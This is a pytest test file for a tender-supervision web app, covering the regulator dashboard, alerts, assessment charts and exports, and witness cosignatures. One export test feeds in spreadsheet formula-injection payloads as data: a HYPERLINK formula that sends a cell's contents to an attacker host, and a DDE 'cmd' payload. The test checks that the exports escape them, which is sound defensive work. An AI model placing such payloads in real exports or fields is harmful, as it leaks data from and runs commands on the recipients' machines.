"""Pages: the regulator's dashboard, alerts desk, assessment with charts and exports, witness cosignatures;
the management office sees the dashboard and the assessment only."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from app.core import audit, signed_note
from app.core.db import db
from app.supervision import alerts, assessment, witness
from tests.factories import csrf_token, login
from tests.supervision.conftest import T0, Scene, bidder, envelope, opening_record


def test_dashboard_shows_todays_openings_and_active_sections(scene: Scene, client: Any) -> None:
    today = scene.section("published", deadline=T0 + dt.timedelta(hours=5))
    db.session.commit()
    login(client, scene.regulator)
    page = client.get("/supervision/").get_data(as_text=True)
    assert today.code in page
    assert 'data-stream-url="/supervision/stream' in page
    assert "<script src=" in page and "<script>" not in page  # no inline scripts (CSP)
    filtered = client.get("/supervision/?industry=water").get_data(as_text=True)
    assert today.code not in filtered


def test_dashboard_counts_what_needs_eyes_and_names_sections_in_words(scene: Scene, client: Any) -> None:
    import re

    scene.section("published", deadline=T0 + dt.timedelta(hours=5))
    held = scene.section("published", deadline=T0 + dt.timedelta(days=20), suspended=True)
    audit.record("projects:section:suspend", object_type="section", object_id=held.id, payload={})
    db.session.commit()
    login(client, scene.regulator)
    page = client.get("/supervision/").get_data(as_text=True)

    def count(name: str) -> int:
        found = re.search(rf'id="sum-{name}">(\d+)<', page)
        assert found, name
        return int(found.group(1))

    assert count("openings") == 1 and count("suspended") == 1 and count("overdue") == 0
    assert "场今日开标" in page and "个标段暂停中" in page
    # the live table names the section (code and name), never only its number
    row = re.search(r'<td data-action="projects:section:suspend">.*?</tr>', page, re.S)
    assert row and f"{held.code} {held.name}" in row.group(0)
    assert 'id="raw-log-link"' in page and "查看原始审计日志" in page  # the raw log one click away


def test_manager_watches_and_assesses_but_does_not_act(scene: Scene, client: Any) -> None:
    login(client, scene.manager)
    assert client.get("/supervision/").status_code == 200
    assert client.get("/supervision/assessment").status_code == 200
    assert client.get("/supervision/alerts").status_code == 403
    assert client.get("/supervision/interventions").status_code == 403
    assert client.get("/supervision/witness").status_code == 403


def test_alerts_desk_and_decision_through_the_page(scene: Scene, client: Any) -> None:
    section = scene.section("opened")
    a, b = bidder(), bidder()
    envelope(section, a, client_fingerprint="same-machine")
    envelope(section, b, client_fingerprint="same-machine")
    opening_record(section, scene.staff, [(a, {"price": "9000000.00"}), (b, {"price": "9100000.00"})])
    (alert,) = alerts.run_alert_rules(section)
    db.session.commit()
    login(client, scene.regulator)
    page = client.get("/supervision/alerts").get_data(as_text=True)
    assert f'id="alert-{alert.id}"' in page and "《招标投标法实施条例》第四十条第（二）项" in page
    token = csrf_token(client, "/supervision/alerts")
    resp = client.post(
        f"/supervision/alerts/{alert.id}/decide", data={"action": "dismiss", "note": "", "csrf_token": token}
    )
    assert resp.status_code == 302
    db.session.refresh(alert)
    assert alert.status == "open"  # no reason, no dismissal
    client.post(
        f"/supervision/alerts/{alert.id}/decide",
        data={"action": "dismiss", "note": "现场同一电脑上传，已核实", "csrf_token": token},
    )
    db.session.refresh(alert)
    assert alert.status == "dismissed"


def test_assessment_counts_charts_and_exports(scene: Scene, client: Any) -> None:
    people, departments = assessment.assess(T0 - dt.timedelta(days=60), T0)
    staff = next(r for r in people if r.user_id == scene.staff.id)
    assert staff.registrations_reviewed == 1 and staff.median_hours == 24.0 and staff.overdue_rate == 0.0
    assert any(d.registrations_reviewed >= 1 for d in departments)
    svg = assessment.bar_chart(departments, "registrations_reviewed", title="<审核>")
    assert svg.startswith("<svg") and "&lt;审核&gt;" in svg and "<script" not in svg

    login(client, scene.manager)
    page = client.get("/supervision/assessment?start=2026-01-01&end=2026-03-02").get_data(as_text=True)
    assert "<svg" in page and scene.staff.display_name in page
    csv_text = client.get("/supervision/assessment.csv?start=2026-01-01&end=2026-03-02").get_data(
        as_text=True
    )
    assert csv_text.lstrip("\ufeff").startswith("name,department,registrations_reviewed")
    resp = client.get("/supervision/assessment.xlsx?start=2026-01-01&end=2026-03-02")
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(resp.data))
    assert wb.sheetnames == ["staff", "departments"]
    assert wb["staff"]["A1"].value == "name"


def test_exports_never_turn_a_name_into_a_formula(scene: Scene, client: Any) -> None:
    """A display name such as ``=HYPERLINK(...)`` stays text in the CSV and the XLSX export (issue 14):
    cells that begin with =, +, -, @, a tab or a carriage return are escaped."""
    from openpyxl import load_workbook

    from app.core.spreadsheets import FORMULA_LEADS, safe_cell

    evil = '=HYPERLINK("http://attacker.example/?"&A1,"点击")'
    scene.staff.display_name = evil
    scene.staff.organization.name = "+cmd|' /C calc'!A0"
    db.session.commit()
    login(client, scene.manager)
    query = "?start=2026-01-01&end=2026-03-02"
    csv_text = client.get(f"/supervision/assessment.csv{query}").get_data(as_text=True)
    cells_csv = [c for row in csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))) for c in row]
    assert "'" + evil in cells_csv and "'+cmd|' /C calc'!A0" in cells_csv
    assert not any(c.startswith(FORMULA_LEADS) for c in cells_csv)
    wb = load_workbook(io.BytesIO(client.get(f"/supervision/assessment.xlsx{query}").data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)  # no formula anywhere
    named = [c for c in cells if c.value == evil]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)
    for lead in FORMULA_LEADS:
        assert safe_cell(lead + "1+1") == "'" + lead + "1+1"
    assert safe_cell(-3) == -3 and safe_cell("a=b") == "a=b" and safe_cell(None) == ""


def test_regulator_registers_a_witness_key_and_cosigns_offline(
    scene: Scene, client: Any, tmp_path: Any
) -> None:
    cp = audit.checkpoint(reason="opening")
    db.session.commit()
    key = Ed25519PrivateKey.generate()
    login(client, scene.regulator)
    token = csrf_token(client, "/supervision/witness")
    resp = client.post(
        "/supervision/witness/key", data={"public_key": witness.public_key_b64(key), "csrf_token": token}
    )
    assert resp.status_code == 302
    note_file = tmp_path / "cp.txt"
    note_file.write_text(cp.note, encoding="utf-8")
    pem = tmp_path / "w.pem"
    from cryptography.hazmat.primitives import serialization

    pem.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    signature = witness.sign(key, cp.note)
    assert witness.main(["sign", "--key", str(pem), "--checkpoint", str(note_file)]) == 0

    bad = base64.b64encode(Ed25519PrivateKey.generate().sign(witness.note_body(cp.note))).decode()
    client.post(f"/supervision/checkpoints/{cp.id}/cosign", data={"signature": bad, "csrf_token": token})
    db.session.refresh(cp)
    assert cp.cosignatures == []  # a signature by another key is refused
    client.post(
        f"/supervision/checkpoints/{cp.id}/cosign", data={"signature": signature, "csrf_token": token}
    )
    db.session.refresh(cp)
    assert len(cp.cosignatures) == 1
    public = client.get("/supervision/checkpoints").get_data(as_text=True)
    assert cp.cosignatures[0]["signature"] in public and scene.regulator_org.name in public


def test_the_offline_witness_tool_prints_a_vkey_and_cosignature_lines(
    scene: Scene, tmp_path: Any, capsys: Any
) -> None:
    cp = audit.checkpoint(reason="opening")
    db.session.commit()
    name = "regulator.example.gov.cn/witness"
    pem, note_file = tmp_path / "w.pem", tmp_path / "cp.txt"
    note_file.write_text(cp.note, encoding="utf-8")
    assert witness.main(["keygen", "--out", str(pem), "--name", name]) == 0
    vkey = capsys.readouterr().out.split()[1]
    assert witness.main(["sign", "--key", str(pem), "--name", name, "--checkpoint", str(note_file)]) == 0
    line = capsys.readouterr().out.strip()
    assert line.startswith(f"— {name} ")
    assert signed_note.verify_cosignature_line(line, cp.note, vkey) >= 0


def test_a_witness_registers_a_vkey_and_cosigns_with_a_c2sp_line(
    scene: Scene, client: Any, tmp_path: Any
) -> None:
    cp = audit.checkpoint(reason="opening")
    db.session.commit()
    key = Ed25519PrivateKey.generate()
    name = "regulator.example.gov.cn/witness"
    login(client, scene.regulator)
    token = csrf_token(client, "/supervision/witness")
    resp = client.post(
        "/supervision/witness/key", data={"public_key": witness.vkey(key, name), "csrf_token": token}
    )
    assert resp.status_code == 302
    line = witness.sign_line(key, cp.note, name, int(T0.timestamp()))
    client.post(f"/supervision/checkpoints/{cp.id}/cosign", data={"signature": line, "csrf_token": token})
    db.session.refresh(cp)
    assert [c["line"] for c in cp.cosignatures] == [line] and cp.note.endswith(f"\n{line}\n")
    again = client.post(
        f"/supervision/checkpoints/{cp.id}/cosign", data={"signature": line, "csrf_token": token}
    )
    assert again.status_code == 302
    db.session.refresh(cp)
    assert len(cp.cosignatures) == 1 and cp.note.count(line) == 1  # cosigned once
    public = client.get("/supervision/checkpoints").get_data(as_text=True)
    assert line in public and name in public and scene.regulator_org.name in public
    feed = client.get("/supervision/checkpoints.json").get_json()
    assert any(c["note"].endswith(f"\n{line}\n") for c in feed["checkpoints"])


def test_workbench_links_to_supervision(scene: Scene, client: Any) -> None:
    login(client, scene.regulator)
    page = client.get("/workbench").get_data(as_text=True)
    assert 'href="/supervision/"' in page and 'href="/supervision/alerts"' in page
    client.post("/auth/logout", data={"csrf_token": csrf_token(client, "/workbench")})
    login(client, scene.manager)
    page = client.get("/workbench").get_data(as_text=True)
    assert 'href="/supervision/assessment"' in page and 'href="/supervision/alerts"' not in page
